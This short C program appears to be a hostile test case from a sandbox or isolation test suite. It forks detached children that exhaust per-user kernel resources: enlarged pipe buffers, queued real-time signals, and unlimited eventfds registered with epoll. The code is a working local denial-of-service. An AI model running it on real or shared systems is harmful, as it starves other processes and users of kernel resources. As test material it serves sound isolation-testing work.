// Attacks: the next run, by what the kernel counts for each user and not for each process: pages of pipes, queued signals, watches.
#include "../hostile.h"
#include <sys/epoll.h>
#include <sys/eventfd.h>
int main(void) {
  sigset_t all;
  sigfillset(&all);
  sigprocmask(SIG_BLOCK, &all, NULL);
  for (int child = 0; child < 8; child++) {
    if (fork() != 0) continue;
    setsid();
    for (int ends[2]; pipe(ends) == 0;) fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
    while (sigqueue(getpid(), SIGRTMIN, (union sigval){0}) == 0) {
    }
    while (1) pause();
  }
  int set = epoll_create1(0);
  struct epoll_event event = {.events = EPOLLIN};
  for (int fd; (fd = eventfd(0, 0)) >= 0;) epoll_ctl(set, EPOLL_CTL_ADD, fd, &event);
  usleep(100000);
  return 0;
}
